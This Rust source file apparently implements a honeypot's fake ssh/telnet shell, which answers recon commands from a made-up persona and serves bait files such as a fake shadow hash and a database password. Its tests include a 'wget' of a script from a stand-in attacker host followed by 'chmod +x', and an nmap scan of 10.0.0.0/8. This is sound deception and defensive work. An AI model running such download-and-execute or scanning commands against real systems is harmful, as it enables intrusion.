//! The fake shell behind the ssh and telnet logins: nothing is executed, every answer is
//! made up from the decky's persona so that `uname`, `/etc/os-release`, `ip a`, `ps` and
//! the prompt tell the same story as the banners.
//!
//! Lines are split on `;`, `&&`, `||` and `|` (a pipe into `grep`, `head` or `wc -l`
//! filters the text as the real tools would). Network commands (`ip`, `ping`, `nc`,
//! `curl`, `ssh`, ...) answer from the decky's real network and reach only inside the
//! maze ([`super::shell_net`]); fetched URLs are reported to the caller, and `ssh` asks the
//! caller to hop. The filesystem is a small read-only tree with a few bait files.

use std::net::{IpAddr, Ipv4Addr};
use std::time::Instant;

mod sys;

use super::shell_net::{self, HopRequest, Net};
use crate::netview::NetView;
use crate::persona::Persona;
use crate::routes::Reach;

/// What running a line did.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Outcome {
    /// Text for the terminal (lines end in `\n`).
    pub output: String,
    /// The user typed `exit` or `logout`.
    pub exit: bool,
    /// URLs the user tried to fetch.
    pub fetches: Vec<String>,
    /// The exit status of the last command, as bash reports it (127 for a command that
    /// does not exist).
    pub status: u32,
    /// `ssh` to another decky: the session continues there (the rest of the line is not run).
    pub hop: Option<HopRequest>,
}

/// One shell session.
#[derive(Debug)]
pub struct Shell {
    persona: Persona,
    user: String,
    home: String,
    cwd: String,
    uid: u32,
    peer: IpAddr,
    history: Vec<String>,
    started: Instant,
    net: Net,
    /// Breadcrumbs into the maze (`DECNET_LURES`): paths (`~/` for the home) and contents.
    lures: Vec<decnet_domain::lures::LureFile>,
}

/// The decky's breadcrumbs: `DECNET_LURES`, plus `~/.ssh/known_hosts` made from
/// `DECNET_KNOWN_HOSTS` with each target's real host key.
fn lure_files() -> Vec<decnet_domain::lures::LureFile> {
    fn from_env<T: serde::de::DeserializeOwned + Default>(name: &str) -> T {
        std::env::var(name).ok().and_then(|text| serde_json::from_str(&text).ok()).unwrap_or_default()
    }
    let mut files: Vec<decnet_domain::lures::LureFile> = from_env("DECNET_LURES");
    let known: Vec<decnet_domain::lures::KnownHost> = from_env("DECNET_KNOWN_HOSTS");
    let topology = std::env::var("DECNET_TOPOLOGY").unwrap_or_default();
    let lines: String = known
        .iter()
        .filter_map(|k| crate::services::ssh::keys::known_host_line(&topology, k.decky.as_str(), &k.host.to_string()))
        .map(|line| line + "\n")
        .collect();
    if !lines.is_empty() {
        files.push(decnet_domain::lures::LureFile { path: "~/.ssh/known_hosts".into(), content: lines });
    }
    files
}

impl Shell {
    /// A session of `user` logged in from `peer` to the decky at `local`.
    pub fn new(persona: &Persona, user: &str, local: IpAddr, peer: IpAddr) -> Self {
        let (uid, home) = if user == "root" { (0, "/root".to_owned()) } else { (1000, format!("/home/{user}")) };
        let v4 = match local {
            IpAddr::V4(ip) => ip,
            IpAddr::V6(_) => Ipv4Addr::UNSPECIFIED,
        };
        let net = Net { reach: Reach::Nowhere, view: NetView::around(v4, &mac(persona)) };
        Self {
            persona: persona.clone(),
            user: user.to_owned(),
            cwd: home.clone(),
            home,
            uid,
            peer,
            history: Vec::new(),
            started: Instant::now(),
            net,
            lures: lure_files(),
        }
    }

    /// The same shell reaching what `reach` allows; inside a decky (`Reach::Maze`) it
    /// shows the namespace's real interfaces, routes and neighbours instead of the
    /// network made up around its address.
    pub async fn on_network(mut self, reach: &Reach) -> Self {
        if *reach == Reach::Maze
            && let Ok(view) = NetView::read().await
        {
            self.net.view = view;
        }
        self.net.reach = reach.clone();
        self
    }

    /// The prompt, as bash shows it.
    pub fn prompt(&self) -> String {
        let dir = if self.cwd == self.home {
            "~".to_owned()
        } else if let Some(rest) = self.cwd.strip_prefix(&format!("{}/", self.home)) {
            format!("~/{rest}")
        } else {
            self.cwd.clone()
        };
        let sign = if self.uid == 0 { '#' } else { '$' };
        format!("{}@{}:{dir}{sign} ", self.user, self.persona.hostname)
    }

    /// The message of the day shown after login.
    pub fn motd(&self) -> String {
        match self.persona.distro.id {
            "ubuntu" => format!(
                "Welcome to {} (GNU/Linux {} x86_64)\n\n * Documentation:  https://help.ubuntu.com\n * Management:     https://landscape.canonical.com\n \
                 * Support:        https://ubuntu.com/pro\n\nLast login: Thu Nov 19 08:14:02 2026 from 10.0.1.23\n",
                self.persona.distro.pretty_name, self.persona.kernel_release
            ),
            "debian" => format!(
                "Linux {} {} {} x86_64\n\nThe programs included with the Debian GNU/Linux system are free software;\n\
                 the exact distribution terms for each program are described in the\nindividual files in /usr/share/doc/*/copyright.\n\n\
                 Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent\npermitted by applicable law.\nLast login: Thu Nov 19 08:14:02 2026 from 10.0.1.23\n",
                self.persona.hostname, self.persona.kernel_release, self.persona.kernel_version
            ),
            _ => "Last login: Thu Nov 19 08:14:02 2026 from 10.0.1.23\n".to_owned(),
        }
    }

    fn uptime_secs(&self) -> u64 {
        self.persona.uptime_at_start + self.started.elapsed().as_secs()
    }

    fn resolve(&self, path: &str) -> String {
        let expanded = if path == "~" {
            self.home.clone()
        } else if let Some(rest) = path.strip_prefix("~/") {
            format!("{}/{rest}", self.home)
        } else {
            path.to_owned()
        };
        resolve(&self.cwd, &expanded)
    }

    /// The content of a file of the fake tree, `Err` with bash's complaint otherwise.
    fn file(&self, path: &str) -> Result<String, &'static str> {
        if let Some(content) = self.system_file(path) {
            return Ok(content);
        }
        if path != "/etc/hosts"
            && let Some(lure) = self.lures.iter().find(|l| self.resolve(&l.path) == path)
        {
            return Ok(lure.content.clone());
        }
        let p = &self.persona;
        let user = &self.user;
        Ok(match path {
            "/etc/passwd" => format!(
                "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\n\
                 sys:x:3:3:sys:/dev:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\nman:x:6:12:man:/var/cache/man:/usr/sbin/nologin\n\
                 www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n\
                 systemd-network:x:100:102:systemd Network Management,,,:/run/systemd:/usr/sbin/nologin\n\
                 messagebus:x:102:105::/nonexistent:/usr/sbin/nologin\nsshd:x:104:65534::/run/sshd:/usr/sbin/nologin\n\
                 mysql:x:110:117:MySQL Server,,,:/nonexistent:/bin/false\n{}:x:1000:1000:{},,,:/home/{}:/bin/bash\n",
                if user == "root" { "ubuntu" } else { user },
                if user == "root" { "ubuntu" } else { user },
                if user == "root" { "ubuntu" } else { user }
            ),
            "/etc/shadow" if self.uid != 0 => return Err("Permission denied"),
            "/etc/shadow" => "root:$6$Yq3s9xE2$0TqYBZ1x4pQk3M4hW1uQ8mN2vC6rD5sF7gH9jK0lZ1xC3vB5nM7qW9eR1tY3uI5oP7aS9dF1gH3jK5lZ7xC9v:19650:0:99999:7:::\n\
                 daemon:*:19650:0:99999:7:::\nbin:*:19650:0:99999:7:::\nsys:*:19650:0:99999:7:::\n"
                .to_owned(),
            "/etc/hostname" => format!("{}\n", p.hostname),
            "/etc/os-release" | "/usr/lib/os-release" => p.os_release(),
            "/etc/issue" => format!("{} \\n \\l\n\n", p.distro.issue),
            "/etc/hosts" => {
                let own: String = self.net.view.addresses().iter().map(|ip| format!("{ip}\t{}\n", p.hostname)).collect();
                let named: String =
                    self.lures.iter().filter(|l| l.path == "/etc/hosts").map(|l| l.content.as_str()).collect();
                format!("127.0.0.1\tlocalhost\n{own}{named}::1\tlocalhost ip6-localhost ip6-loopback\n")
            }
            "/proc/version" => format!("Linux version {} (buildd@lcy02-amd64-001) (gcc (GCC) 11.4.0) {}\n", p.kernel_release, p.kernel_version),
            "/proc/cpuinfo" => "processor\t: 0\nvendor_id\t: GenuineIntel\nmodel name\t: Intel(R) Xeon(R) Gold 6230R CPU @ 2.10GHz\ncpu MHz\t\t: 2095.078\ncache size\t: 36608 KB\n\n\
                 processor\t: 1\nvendor_id\t: GenuineIntel\nmodel name\t: Intel(R) Xeon(R) Gold 6230R CPU @ 2.10GHz\ncpu MHz\t\t: 2095.078\ncache size\t: 36608 KB\n"
                .to_owned(),
            "/var/www/html/config.php" => format!(
                "<?php\n// database\ndefine('DB_HOST', 'localhost');\ndefine('DB_USER', 'app');\ndefine('DB_PASSWORD', 'Wint3r-{:04}!');\ndefine('DB_NAME', 'app');\n",
                p.derive("ftp notes") % 10_000
            ),
            path if path == format!("{}/.bash_history", self.home) => {
                "ls -la\nsudo systemctl restart nginx\nmysql -u app -p app\ncd /var/www/html\nvim config.php\nexit\n"
                    .to_owned()
            }
            path if path == format!("{}/.bashrc", self.home) => {
                "# ~/.bashrc: executed by bash(1) for non-login shells.\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\nHISTCONTROL=ignoreboth\nshopt -s histappend\nHISTSIZE=1000\nHISTFILESIZE=2000\nalias ll='ls -alF'\nalias la='ls -A'\n"
                    .to_owned()
            }
            path if path == format!("{}/.profile", self.home) => {
                "# ~/.profile: executed by the command interpreter for login shells.\nif [ -n \"$BASH_VERSION\" ]; then\n    if [ -f \"$HOME/.bashrc\" ]; then\n\t. \"$HOME/.bashrc\"\n    fi\nfi\n"
                    .to_owned()
            }
            path if path == format!("{}/.ssh/authorized_keys", self.home) => String::new(),
            path if path == format!("{}/notes.txt", self.home) => {
                "- vpn: ops / see vault\n- rotate the db password after the migration\n".to_owned()
            }
            path if path.starts_with("/root") && self.uid != 0 => return Err("Permission denied"),
            path if self.is_dir(path) => return Err("Is a directory"),
            _ => return Err("No such file or directory"),
        })
    }

    /// Whether a lure file lies at `path` (as the lures name it).
    fn has_lure(&self, path: &str) -> bool {
        self.lures.iter().any(|l| l.path == path)
    }

    fn is_dir(&self, path: &str) -> bool {
        matches!(
            path,
            "/" | "/etc"
                | "/home"
                | "/root"
                | "/tmp"
                | "/var"
                | "/var/www"
                | "/var/www/html"
                | "/var/log"
                | "/usr"
                | "/usr/bin"
                | "/proc"
                | "/opt"
                | "/srv"
        ) || path == self.home
            || path == format!("{}/.ssh", self.home)
    }

    fn entries(&self, dir: &str) -> Option<Vec<&'static str>> {
        let home = self.home.as_str();
        Some(match dir {
            "/" => vec![
                "bin", "boot", "dev", "etc", "home", "lib", "lib64", "media", "mnt", "opt", "proc", "root", "run",
                "sbin", "srv", "sys", "tmp", "usr", "var",
            ],
            "/etc" => vec![
                "crontab",
                "fstab",
                "group",
                "hostname",
                "hosts",
                "issue",
                "nginx",
                "os-release",
                "passwd",
                "shadow",
                "ssh",
                "sudoers",
                "systemd",
            ],
            "/home" => vec![if self.uid == 0 { "ubuntu" } else { "" }].into_iter().filter(|s| !s.is_empty()).collect(),
            "/var" => vec!["backups", "cache", "lib", "log", "mail", "tmp", "www"],
            "/var/www" => vec!["html"],
            "/var/www/html" => {
                let mut names = vec!["config.php", "index.html"];
                if self.has_lure(decnet_domain::lures::WP_CONFIG) {
                    names.push("wp-config.php");
                }
                names
            }
            "/tmp" | "/opt" | "/srv" => vec![],
            d if d == home => {
                let mut names = vec![".bash_history", ".bashrc"];
                names.extend([".my.cnf", ".pgpass"].into_iter().filter(|f| self.has_lure(&format!("~/{f}"))));
                names.extend([".profile", ".ssh", "notes.txt"]);
                names
            }
            d if d == format!("{home}/.ssh") => {
                let mut names: Vec<&'static str> = vec!["authorized_keys"];
                names.extend(["config", "known_hosts"].into_iter().filter(|f| self.has_lure(&format!("~/.ssh/{f}"))));
                names
            }
            _ => return None,
        })
    }

    /// Runs one command line.
    pub async fn run(&mut self, line: &str) -> Outcome {
        let line = line.trim();
        let mut outcome = Outcome::default();
        if line.is_empty() {
            return outcome;
        }
        self.history.push(line.to_owned());
        for statement in line.split([';', '\n']).flat_map(|s| s.split("&&")).flat_map(|s| s.split("||")) {
            let mut stages = statement.split('|').map(str::trim).filter(|s| !s.is_empty());
            let Some(first) = stages.next() else { continue };
            outcome.status = 0;
            let mut text = match self.network(first, &mut outcome).await {
                Some(text) => text,
                None => self.command(first, &mut outcome),
            };
            for filter in stages {
                text = pipe(filter, &text);
            }
            outcome.output.push_str(&text);
            if outcome.exit || outcome.hop.is_some() {
                break;
            }
        }
        outcome
    }

    /// A network command (run as root through `sudo` too), or `None`.
    async fn network(&self, statement: &str, outcome: &mut Outcome) -> Option<String> {
        let words = split_words(statement);
        let mut args: Vec<&str> = words.iter().map(String::as_str).collect();
        if self.uid == 0 && args.first() == Some(&"sudo") {
            args.remove(0);
        }
        let (name, rest) = args.split_first()?;
        shell_net::command(&self.net, &self.user, name, rest, outcome).await
    }

    fn command(&mut self, statement: &str, outcome: &mut Outcome) -> String {
        let words = split_words(statement);
        let Some(name) = words.first().map(String::as_str) else { return String::new() };
        let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
        if let Some(text) = self.system(name, &args, outcome) {
            return text;
        }
        let p = self.persona.clone();
        match name {
            "exit" | "logout" => {
                outcome.exit = true;
                String::new()
            }
            "whoami" => format!("{}\n", self.user),
            "id" => {
                if self.uid == 0 {
                    "uid=0(root) gid=0(root) groups=0(root)\n".to_owned()
                } else {
                    format!(
                        "uid=1000({u}) gid=1000({u}) groups=1000({u}),4(adm),24(cdrom),27(sudo),30(dip),46(plugdev),110(lxd)\n",
                        u = self.user
                    )
                }
            }
            "hostname" => format!("{}\n", p.hostname),
            "pwd" => format!("{}\n", self.cwd),
            "uname" => {
                let flags: String = args.iter().filter_map(|a| a.strip_prefix('-')).collect();
                if flags.contains('a') {
                    format!("{}\n", p.uname_a())
                } else {
                    let mut parts = Vec::new();
                    if flags.is_empty() || flags.contains('s') {
                        parts.push("Linux".to_owned());
                    }
                    if flags.contains('n') {
                        parts.push(p.hostname.clone());
                    }
                    if flags.contains('r') {
                        parts.push(p.kernel_release.to_owned());
                    }
                    if flags.contains('v') {
                        parts.push(p.kernel_version.to_owned());
                    }
                    if flags.contains('m') || flags.contains('p') || flags.contains('i') {
                        parts.push("x86_64".to_owned());
                    }
                    if flags.contains('o') {
                        parts.push("GNU/Linux".to_owned());
                    }
                    format!("{}\n", parts.join(" "))
                }
            }
            "echo" => format!(
                "{}\n",
                args.join(" ").replace("$USER", &self.user).replace("$HOME", &self.home).replace("$SHELL", "/bin/bash")
            ),
            "cd" => {
                let target = self.resolve(args.first().copied().unwrap_or("~"));
                if target.starts_with("/root") && self.uid != 0 {
                    outcome.status = 1;
                    format!("-bash: cd: {}: Permission denied\n", args.first().copied().unwrap_or(""))
                } else if self.is_dir(&target) {
                    self.cwd = target;
                    String::new()
                } else {
                    outcome.status = 1;
                    format!("-bash: cd: {}: No such file or directory\n", args.first().copied().unwrap_or(""))
                }
            }
            "ls" | "ll" | "dir" => {
                let long = name == "ll" || args.iter().any(|a| a.starts_with('-') && a.contains('l'));
                let all = name == "ll" || args.iter().any(|a| a.starts_with('-') && a.contains('a'));
                let target =
                    args.iter().find(|a| !a.starts_with('-')).map_or_else(|| self.cwd.clone(), |a| self.resolve(a));
                match self.entries(&target) {
                    Some(entries) => {
                        let shown: Vec<&str> = entries.into_iter().filter(|e| all || !e.starts_with('.')).collect();
                        if long {
                            let mut out = format!("total {}\n", shown.len() * 4);
                            for entry in shown {
                                let path = self.resolve(&format!("{target}/{entry}"));
                                let (mode, size) = match self.file(&path) {
                                    Ok(content) => ("-rw-r--r--", content.len()),
                                    Err(_) => ("drwxr-xr-x", 4096),
                                };
                                let owner = if target.starts_with("/home") { self.user.as_str() } else { "root" };
                                out.push_str(&format!("{mode} 1 {owner} {owner} {size:>5} Nov 19 08:14 {entry}\n"));
                            }
                            out
                        } else if shown.is_empty() {
                            String::new()
                        } else {
                            format!("{}\n", shown.join("  "))
                        }
                    }
                    None if target.starts_with("/root") && self.uid != 0 => {
                        outcome.status = 2;
                        format!("ls: cannot open directory '{target}': Permission denied\n")
                    }
                    None => match self.file(&target) {
                        Ok(_) => format!("{}\n", args.iter().find(|a| !a.starts_with('-')).copied().unwrap_or("")),
                        Err(_) => {
                            outcome.status = 2;
                            format!("ls: cannot access '{target}': No such file or directory\n")
                        }
                    },
                }
            }
            "cat" | "more" | "less" | "head" | "tail" => {
                let mut out = String::new();
                for arg in args.iter().filter(|a| !a.starts_with('-')) {
                    match self.file(&self.resolve(arg)) {
                        Ok(content) => out.push_str(&content),
                        Err(why) => {
                            outcome.status = 1;
                            out.push_str(&format!("{name}: {arg}: {why}\n"));
                        }
                    }
                }
                out
            }
            "ps" => {
                let web = if p.http_server.starts_with("nginx") {
                    "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"
                } else {
                    "/usr/sbin/apache2 -k start"
                };
                format!(
                    "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n\
                     root           1  0.0  0.1 167620 11776 ?        Ss   Nov19   0:09 /sbin/init\n\
                     root         412  0.0  0.1  47592 15236 ?        S<s  Nov19   0:02 /lib/systemd/systemd-journald\n\
                     root         688  0.0  0.0   6896  2888 ?        Ss   Nov19   0:00 /usr/sbin/cron -f -P\n\
                     syslog       702  0.0  0.0 222404  5232 ?        Ssl  Nov19   0:01 /usr/sbin/rsyslogd -n -iNONE\n\
                     root         731  0.0  0.0  15432  9024 ?        Ss   Nov19   0:00 sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups\n\
                     root         802  0.0  0.0  55228  1540 ?        Ss   Nov19   0:00 {web}\n\
                     {u:<12} {pid}  0.0  0.0   8904  5468 pts/0    Ss   08:14   0:00 -bash\n\
                     {u:<12} {ps}  0.0  0.0  10072  1588 pts/0    R+   08:15   0:00 ps {args}\n",
                    u = self.user,
                    pid = 2000 + p.derive("shell pid") % 6000,
                    ps = 8001 + p.derive("shell pid") % 6000,
                    args = args.join(" ")
                )
            }
            "uptime" => format!("{}\n", self.uptime_line()),
            "w" => format!(
                "{}\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n{:<8} pts/0    {:<16} 08:14    0.00s  0.02s  0.00s w\n",
                self.uptime_line(),
                self.user,
                self.peer
            ),
            "who" => format!("{:<8} pts/0        2026-11-22 08:14 ({})\n", self.user, self.peer),
            "history" => self.history.iter().enumerate().map(|(i, h)| format!("{:>5}  {h}\n", i + 1)).collect(),
            "date" => format!("{}\n", chrono::Utc::now().format("%a %b %e %H:%M:%S UTC %Y")),
            "env" | "printenv" => format!(
                "SHELL=/bin/bash\nPWD={}\nLOGNAME={u}\nHOME={}\nLANG=C.UTF-8\nTERM=xterm-256color\nUSER={u}\nPATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n",
                self.cwd,
                self.home,
                u = self.user
            ),
            "which" => args
                .iter()
                .map(|a| {
                    if matches!(*a, "bash" | "sh" | "python3" | "perl" | "wget" | "curl" | "ls" | "cat") {
                        format!("/usr/bin/{a}\n")
                    } else {
                        String::new()
                    }
                })
                .collect(),
            "sudo" if self.uid != 0 => {
                format!("[sudo] password for {}: \nSorry, try again.\nsudo: 1 incorrect password attempt\n", self.user)
            }
            "sudo" => self.command(&args.join(" "), outcome),
            "su" => "Password: \nsu: Authentication failure\n".to_owned(),
            "crontab" => format!("no crontab for {}\n", self.user),
            "last" => format!(
                "{:<8} pts/0        10.0.1.23        Thu Nov 19 08:14 - 08:51  (00:37)\nreboot   system boot  {:<16} Wed Nov 18 22:03   still running\n\nwtmp begins Sun Nov  1 00:00:01 2026\n",
                self.user, p.kernel_release
            ),
            "mkdir" | "touch" | "rm" | "chmod" | "chown" | "mv" | "cp" | "export" | "unset" | "clear" | "true"
            | "cd.." | "set" | "alias" | "kill" | "nohup" => String::new(),
            "apt" | "apt-get" | "yum" | "dnf" => {
                if self.uid == 0 {
                    "E: Could not get lock /var/lib/dpkg/lock-frontend. It is held by process 1432 (unattended-upgr)\n"
                        .to_owned()
                } else {
                    "E: Could not open lock file /var/lib/dpkg/lock-frontend - open (13: Permission denied)\n"
                        .to_owned()
                }
            }
            other => {
                outcome.status = 127;
                format!("-bash: {other}: command not found\n")
            }
        }
    }

    fn uptime_line(&self) -> String {
        let secs = self.uptime_secs();
        let (days, hours, minutes) = (secs / 86_400, secs % 86_400 / 3600, secs % 3600 / 60);
        let load = |purpose: &str| (self.persona.derive(purpose) % 60) as f64 / 100.0;
        format!(
            " {} up {days} days, {hours:>2}:{minutes:02},  1 user,  load average: {:.2}, {:.2}, {:.2}",
            chrono::Utc::now().format("%H:%M:%S"),
            load("l1"),
            load("l5"),
            load("l15")
        )
    }
}

/// `path` resolved against `cwd`, normalised (`.` and `..` handled; never above `/`).
pub(crate) fn resolve(cwd: &str, path: &str) -> String {
    let joined = if path.starts_with('/') { path.to_owned() } else { format!("{cwd}/{path}") };
    let mut parts: Vec<&str> = Vec::new();
    for part in joined.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    format!("/{}", parts.join("/"))
}

/// The decky's MAC address (locally administered, stable per decky).
fn mac(persona: &Persona) -> String {
    let bytes = persona.derive("mac").to_le_bytes();
    format!("02:42:{:02x}:{:02x}:{:02x}:{:02x}", bytes[0], bytes[1], bytes[2], bytes[3])
}

/// Words of a command, with simple single and double quoting.
fn split_words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut current = String::new();
    let mut quote: Option<char> = None;
    let mut started = false;
    for c in line.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => current.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                started = true;
            }
            (None, c) if c.is_whitespace() => {
                if started || !current.is_empty() {
                    words.push(std::mem::take(&mut current));
                    started = false;
                }
            }
            (None, c) => current.push(c),
        }
    }
    if started || !current.is_empty() {
        words.push(current);
    }
    words
}

/// What a pipe into `filter` makes of `text`.
fn pipe(filter: &str, text: &str) -> String {
    let words = split_words(filter);
    match words.first().map(String::as_str) {
        Some("grep") => {
            let pattern = words.iter().skip(1).find(|w| !w.starts_with('-')).cloned().unwrap_or_default();
            text.lines().filter(|l| l.contains(&pattern)).map(|l| format!("{l}\n")).collect()
        }
        Some("head") => {
            let n = words
                .iter()
                .skip(1)
                .find_map(|w| w.trim_start_matches("-n").trim_start_matches('-').parse::<usize>().ok())
                .unwrap_or(10);
            text.lines().take(n).map(|l| format!("{l}\n")).collect()
        }
        Some("wc") => format!("{}\n", text.lines().count()),
        _ => text.to_owned(),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn shell() -> Shell {
        let persona = Persona::new("t", "web-01", None, None, Some("ubuntu22"));
        Shell::new(&persona, "ubuntu", "10.1.2.3".parse().unwrap(), "203.0.113.9".parse().unwrap())
    }

    #[tokio::test]
    async fn exit_statuses_are_the_ones_bash_and_coreutils_give() {
        let mut sh = shell();
        for (line, status) in [
            ("id", 0),
            ("frobnicate", 127),
            ("cat /nonexistent", 1),
            ("ls /nonexistent", 2),
            ("cd /nonexistent", 1),
            ("frobnicate; id", 0),
            ("id; frobnicate", 127),
        ] {
            assert_eq!(sh.run(line).await.status, status, "{line}");
        }
    }

    #[tokio::test]
    async fn recon_commands_tell_the_personas_story() {
        let mut sh = shell();
        assert_eq!(sh.prompt(), "ubuntu@web-01:~$ ");
        assert!(sh.run("uname -a").await.output.starts_with("Linux web-01 5.15.0-"));
        assert_eq!(sh.run("whoami").await.output, "ubuntu\n");
        assert!(sh.run("id").await.output.contains("27(sudo)"));
        assert!(sh.run("cat /etc/os-release").await.output.contains("VERSION_CODENAME=jammy"));
        assert!(sh.run("ip a").await.output.contains("inet 10.1.2.3/24"));
        assert!(sh.run("cat /etc/passwd | grep ubuntu").await.output.starts_with("ubuntu:x:1000"));
        assert_eq!(sh.run("cat /etc/passwd | wc -l").await.output, "13\n");
        assert!(sh.run("cat /etc/shadow").await.output.contains("Permission denied"));
        assert!(sh.run("w").await.output.contains("203.0.113.9"));
        sh.run("cd /var/www/html").await;
        assert_eq!(sh.prompt(), "ubuntu@web-01:/var/www/html$ ");
        assert!(sh.run("ls").await.output.contains("config.php"));
        assert!(sh.run("nmap -sS 10.0.0.0/8").await.output.contains("command not found"));
        let fetch = sh.run("wget http://evil.example/x.sh; chmod +x x.sh").await;
        assert_eq!(fetch.fetches, vec!["http://evil.example/x.sh".to_owned()]);
        assert!(fetch.output.contains("unable to resolve host address 'evil.example'"));
        assert!(sh.run("history").await.output.contains("cd /var/www/html"));
        assert!(sh.run("exit").await.exit);
    }

    #[test]
    fn words_split_with_quotes() {
        assert_eq!(split_words("echo 'a b' \"c\" d"), vec!["echo", "a b", "c", "d"]);
        assert_eq!(split_words("echo ''"), vec!["echo", ""]);
    }
}
